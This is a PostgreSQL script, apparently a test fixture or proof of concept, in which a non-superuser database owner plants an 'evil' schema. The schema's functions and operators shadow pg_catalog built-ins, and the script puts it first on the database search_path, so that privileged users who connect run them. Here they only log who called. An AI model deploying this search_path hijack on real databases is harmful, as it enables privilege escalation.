-- What an owner of a database, who is no superuser, can lay out for whoever works there with more rights than he has.
-- Run by himself, in a database that is his. Whatever of this is run writes down as whom.
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.seen (what text, by_user text DEFAULT current_user, superuser boolean);
GRANT INSERT ON evil.seen TO PUBLIC;
CREATE FUNCTION evil.note(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO evil.seen SELECT note.what, current_user, r.rolsuper
    FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user;
EXCEPTION WHEN OTHERS THEN NULL;  -- In a transaction that only reads.
END $$;
CREATE FUNCTION evil.pg_backend_pid() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('pg_backend_pid'); RETURN pg_catalog.pg_backend_pid(); END $$;
CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('current_setting'); RETURN pg_catalog.current_setting($1); END $$;
CREATE FUNCTION evil.to_regclass(text) RETURNS regclass LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('to_regclass'); RETURN pg_catalog.to_regclass($1); END $$;
CREATE FUNCTION evil.has_schema_privilege(oid, text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('has_schema_privilege'); RETURN pg_catalog.has_schema_privilege($1, $2); END $$;
CREATE FUNCTION evil.names_equal(name, name) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('='); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.names_equal);
CREATE FUNCTION evil.texts_equal(text, text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN PERFORM evil.note('='); RETURN $1 OPERATOR(pg_catalog.=) $2; END $$;
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.texts_equal);
ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC;
ALTER DEFAULT PRIVILEGES GRANT ALL ON SEQUENCES TO PUBLIC;
DO $$ BEGIN
  EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', pg_catalog.current_database());
END $$;
